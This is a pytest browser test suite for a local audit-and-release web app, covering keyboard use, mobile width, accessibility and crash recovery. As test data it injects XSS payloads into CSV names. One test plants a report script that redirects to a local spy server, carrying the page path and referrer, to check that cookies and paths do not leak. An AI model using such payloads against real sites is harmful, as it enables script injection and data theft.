"""The desk in a real browser: whole ways through it, by keyboard, on a telephone, and with hostile names."""

from __future__ import annotations

import json
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

import empriv
from app.conftest import PATIENCE, RunningDesk, sales
from app.test_app_decision import SETTINGS, put, slow
from app.test_app_release import audited
from empriv.ledger.values import ReleaseEntry

pytestmark = pytest.mark.slow


class Tab:
    """A tab in the browser that notes what a desk must not do."""

    def __init__(self, context: Any, desk: RunningDesk) -> None:
        self.context = context
        self.page = context.new_page()
        self.desk = desk
        self.noises: list[str] = []
        self.elsewhere: list[str] = []
        self.page.on("console", lambda message: self.noises.append(message.text))
        self.page.on("pageerror", lambda error: self.noises.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.noises.append("dialog"), dialog.dismiss()))
        self.page.on("request", lambda request: self._note(request.url))
        self.page.goto(desk.address)

    def _note(self, url: str) -> None:
        if not url.startswith((f"http://127.0.0.1:{self.desk.port}/", "data:", "blob:")):
            self.elsewhere.append(url)

    def go(self, path: str) -> None:
        self.page.goto(self.desk.at(path))

    def wrong_by_axe(self, axe: str) -> list[Any]:
        """What axe-core objects to on the page."""
        self.page.wait_for_function("() => !document.querySelector('[data-load]:not(details:not([open]) *), .busy')")
        # evaluated as a debugger would, which the page's Content-Security-Policy leaves alone
        session = self.context.new_cdp_session(self.page)
        session.send("Runtime.evaluate", {"expression": axe + "; undefined"})
        expression = (
            "axe.run(document, {resultTypes: ['violations']})"
            ".then(r => r.violations.map(v => [v.id, v.nodes.map(n => n.html)]))"
        )
        found = session.send(
            "Runtime.evaluate", {"expression": expression, "awaitPromise": True, "returnByValue": True}
        )
        return list(found["result"]["value"])

    def width(self) -> int:
        return int(self.page.evaluate("document.documentElement.scrollWidth"))


@pytest.fixture
def telephone(browser: Any) -> Iterator[Any]:
    """The browser of somebody on a telephone, with its own cookies."""
    context = browser.new_context(viewport={"width": 390, "height": 800})
    yield context
    context.close()


HOSTILE = "<img src=x onerror=alert(1)>"


def hostile_sales() -> bytes:
    """Sales whose column of people, and whose regions, look like markup."""
    text = sales(days=60, people=8).decode()
    return text.replace("day,client,", f'day,"{HOSTILE}",').replace("north", "<script>alert(2)</script>").encode()


class Keys:
    """Somebody without a mouse: goes from place to place by Tab, and presses keys there."""

    def __init__(self, page: Any) -> None:
        self.page = page

    def to(self, selector: str) -> None:
        """Press Tab until the focus is on something."""
        self.page.wait_for_selector(selector, state="attached")
        for _ in range(200):
            self.page.keyboard.press("Tab")
            if self.page.evaluate("selector => document.activeElement.matches(selector)", selector):
                return
        raise AssertionError(f"no key leads to {selector}")

    def press(self, selector: str, key: str = "Enter") -> None:
        self.to(selector)
        self.page.keyboard.press(key)


def reloaded(tab: Tab) -> None:
    """Reload, go back and come again: the page is the same."""
    address, heading = tab.page.url, tab.page.inner_text("h1")
    tab.page.reload()
    assert (tab.page.url, tab.page.inner_text("h1")) == (address, heading)
    tab.page.go_back()
    tab.page.go_forward()
    assert (tab.page.url, tab.page.inner_text("h1")) == (address, heading)


def test_a_newcomer_goes_from_a_file_to_a_release_by_keyboard_on_a_telephone(
    telephone: Any, desk: RunningDesk, axe: str, tmp_path: Path
) -> None:
    """Hostile names, no mouse, 390 pixels, and reload; each page can be read by all."""
    rows = tmp_path / "sales.csv"
    rows.write_bytes(hostile_sales())
    here = Tab(telephone, desk)
    page, keys = here.page, Keys(here.page)

    def look(step: str) -> None:
        """The page of a step, which all can read, and which fits."""
        page.wait_for_url(f"**/{step}")
        assert here.wrong_by_axe(axe) == [], step
        assert here.width() <= 390, step
        reloaded(here)
        page.wait_for_function("() => !document.querySelector('.busy')")

    keys.press("a[href$='/new']")
    page.wait_for_url("**/new")
    assert here.wrong_by_axe(axe) == []
    page.set_input_files("#upload", str(rows))  # the browser's own dialogue, which no page can test
    keys.press("form:has(#upload) button")
    page.wait_for_selector("[name=individual]")
    keys.press(f'input[name=individual][value="{HOSTILE}"]', "Space")  # no name tells that this is who
    page.wait_for_selector("text=60 days, 8 people")
    assert here.wrong_by_axe(axe) == []
    assert here.width() <= 390
    keys.to("[name=where_column]")
    page.keyboard.type("amount")
    keys.to("[name=where_value]")
    page.keyboard.type("many")
    page.wait_for_selector(".condition .wrong:has-text('Condition 1 must be a number')")
    page.keyboard.press("Control+A")
    page.keyboard.type("-5")
    keys.to("[name=where_operator]")  # what is typed is sent meanwhile
    page.wait_for_selector("text=WHERE amount = -5")
    page.keyboard.press("ArrowDown")
    page.wait_for_selector("text=WHERE amount <> -5")
    keys.press("button.first")
    look("promise")
    keys.press("button.first")
    page.wait_for_selector("iframe", timeout=1000 * PATIENCE)
    look("decision")
    keys.press("form:has(#step) button")
    page.wait_for_selector("#database", timeout=1000 * PATIENCE)
    keys.to("#database")
    page.keyboard.type("2024-01-05")
    keys.press("input[name=confirm]", "Space")
    keys.press("form:has(#database) button.first")
    page.wait_for_selector(".decision.publish", timeout=1000 * PATIENCE)
    answer = page.inner_text(".decision.publish .line")
    look("decision")
    assert page.inner_text(".decision.publish .line") == answer  # a reload releases nothing
    written = empriv.Ledger(desk.folder / "releases.ledger", create=False).entries()
    assert len([entry for entry in written if isinstance(entry, ReleaseEntry)]) == 1
    here.go("/?q=avg&kind=open")
    assert "No audit" in page.inner_text("main")
    here.go("/?q=avg")
    assert "delta 0.05 at epsilon 0.1" in page.inner_text("tbody")
    assert here.wrong_by_axe(axe) == []
    assert here.width() <= 390
    keys.press("a[href$='/delete']")
    page.wait_for_url("**/delete")
    assert here.wrong_by_axe(axe) == []
    assert here.noises == []
    assert here.elsewhere == []


def test_two_tabs_two_audits_at_once_and_a_run_that_is_cancelled_and_mended(
    telephone: Any, desk: RunningDesk, axe: str
) -> None:
    slow(put(desk.folder), "endless")
    here, there, beside = (Tab(telephone, desk) for _ in range(3))
    keys = Keys(here.page)
    here.go("/audits/endless/decision")
    keys.press("button.first")
    here.page.wait_for_selector("progress")
    there.go("/audits/endless/decision")
    there.page.wait_for_selector("progress")
    beside.go("/audits/shop/decision")
    Keys(beside.page).press("button.first")  # a second audit
    here.page.reload()  # as somebody does who came back
    assert here.wrong_by_axe(axe) == []
    keys.press("form[action$='/run/stop'] button")
    for tab in (here, there):  # the other tab is told by itself
        tab.page.wait_for_selector("text=The last run was cancelled", timeout=1000 * PATIENCE)
    assert here.wrong_by_axe(axe) == []
    reloaded(here)
    assert [path.name for path in desk.folder.glob("endless*")] == ["endless.toml"]
    beside.page.wait_for_selector("iframe", timeout=1000 * PATIENCE)  # it went on
    keys.press("main a[href$='/data']")
    keys.to("#query")
    here.page.keyboard.press("Control+A")
    here.page.keyboard.type("avg(amount)")
    keys.press("button.first")
    here.page.wait_for_url("**/promise")
    keys.press(".steps a[href$='/decision']")
    keys.press("button.first")
    here.page.wait_for_selector("iframe", timeout=1000 * PATIENCE)
    told = [json.loads((desk.folder / f"{name}.json").read_text())["decision"] for name in ("endless", "shop")]
    assert told[0] == told[1]
    assert here.noises == there.noises == beside.noises == []


@contextmanager
def served(folder: Path) -> Iterator[tuple[subprocess.Popen[str], RunningDesk]]:
    """A server in a process of its own."""
    command = [sys.executable, "-m", "empriv", "app", "--no-browser", "--folder", str(folder)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            address = process.stdout.readline().split()[-1]
            yield process, RunningDesk(folder, int(urlsplit(address).port or 0), address)
        finally:
            if process.poll() is None:
                process.send_signal(signal.SIGTERM)
            process.wait(PATIENCE)


def test_a_killed_server_loses_nothing_and_the_next_one_leads_on_to_the_decision(
    telephone: Any, tmp_path: Path
) -> None:
    folder = put(tmp_path)
    folder.write("wrong", replace(SETTINGS, query=("avg(amounts)",)))
    slow(folder, "endless")
    with served(tmp_path) as (server, desk):
        before = Tab(telephone, desk)
        for name in ("wrong", "endless", "shop"):
            before.go(f"/audits/{name}/decision")
            Keys(before.page).press("button.first")
            before.page.wait_for_selector("progress")
        server.kill()
        server.wait(PATIENCE)
    before.page.wait_for_selector(".alarm", timeout=1000 * PATIENCE)
    assert "does not answer" in before.page.inner_text(".alarm")
    with served(tmp_path) as (_, desk):
        after = Tab(telephone, desk)
        keys = Keys(after.page)
        keys.press("main a[href$='/audits/endless/decision']")
        after.page.wait_for_selector("progress")  # it goes on
        keys.press("form[action$='/run/stop'] button")
        after.page.wait_for_selector("text=The last run was cancelled", timeout=1000 * PATIENCE)
        after.go("/audits/wrong/decision")
        after.page.wait_for_selector("text=The last run failed", timeout=1000 * PATIENCE)  # whoever was away is told
        assert after.page.get_by_text("Mend it").count() == 1
        after.go("/audits/shop/decision")
        after.page.wait_for_selector("iframe", timeout=1000 * PATIENCE)
        shown = after.page.frame_locator("#report").locator("main, body").first.inner_text()
        assert "May avg(amount) be published?" in shown
        assert "Do not publish as it is" in shown
        assert not list(tmp_path.glob(".*.tmp"))
        assert after.noises == []


# Pages that commands wrote, inside pages of the desk


def test_the_framed_page_can_be_printed_and_reaches_nothing_of_the_desk(browser: Any, desk: RunningDesk) -> None:
    audit = audited(desk.folder, "printed")
    audit.report(desk.folder / "printed.html", verdicts=[("delta", audit.verdict(epsilon=1.0, delta=0.5))])
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(desk.address)
        page.goto(desk.at("/audits/printed/decision"))
        frame = page.frame_locator("#report")
        frame.locator("h1").wait_for()
        inner = next(frame for frame in page.frames if "written" in frame.url)
        inner.wait_for_function("() => document.readyState === 'complete'")
        inner.evaluate("() => { window.print = () => { window.printed = true; }; }")
        page.click("[data-print]")
        inner.wait_for_function("() => window.printed")
        inner.evaluate("() => { window.printed = false; }")
        page.keyboard.press("Control+p")
        inner.wait_for_function("() => window.printed")
        assert inner.evaluate("() => window.origin") == "null"
        assert inner.evaluate("() => { try { return parent.document.title; } catch { return 'closed'; } }") == "closed"
        reached = "() => fetch('/').then(() => 'open', () => 'closed')"
        assert inner.evaluate(reached) == "closed"
        page.emulate_media(media="print")
        to_press = "a.button, button, input, select, textarea, nav, iframe, .slider, .tools"
        assert page.locator(to_press).locator("visible=true").count() == 0
        assert page.locator(".on-paper").is_visible()
        page.goto(inner.url)  # by itself
        assert page.locator(to_press).locator("visible=true").count() == 0
        assert page.locator(".sign").is_visible()
        paper = page.pdf(prefer_css_page_size=True)  # as somebody does who saves it
        assert len(re.findall(rb"/Type /Page\b", paper)) == 2
    finally:
        context.close()


def test_another_program_of_this_machine_gets_neither_the_cookie_nor_the_path(browser: Any, desk: RunningDesk) -> None:
    """Not when its own page is opened, nor from a report, opened by itself, that goes there and tells its address."""
    told: list[tuple[str, str]] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.append((self.path, self.headers.get("Cookie", "")))
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>spy</title>")

        def log_message(self, *_: Any) -> None:
            pass

    spy = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    audited(desk.folder, "spied")
    there = f"http://127.0.0.1:{spy.server_port}"
    script = f"<script>location = '{there}' + location.pathname + '#' + document.referrer</script>"
    (desk.folder / "spied.html").write_text(script, encoding="utf-8")
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(desk.address)
        page.goto(desk.at("/audits/spied/decision"))
        with context.expect_page() as opened:
            page.click("a[target=_blank]")
        opened.value.wait_for_url(f"{there}/**")
        root = desk.at("")[len(f"http://127.0.0.1:{desk.port}") :]
        assert root not in opened.value.url
        for path in ("/", told[0][0], "/new"):
            opened.value.goto(there + path)
            opened.value.evaluate("path => fetch(path).then(() => true)", path)  # the same site, to a browser
        assert len(told) >= 7
        assert not [cookie for _, cookie in told if cookie]
        assert not [path for path, _ in told if root in path]
        opened.value.goto(there + root + "/")
        assert "empriv-app" in dict(told)[f"{root}/"]  # whoever knew the path would get it
    finally:
        context.close()
        spy.shutdown()
        spy.server_close()
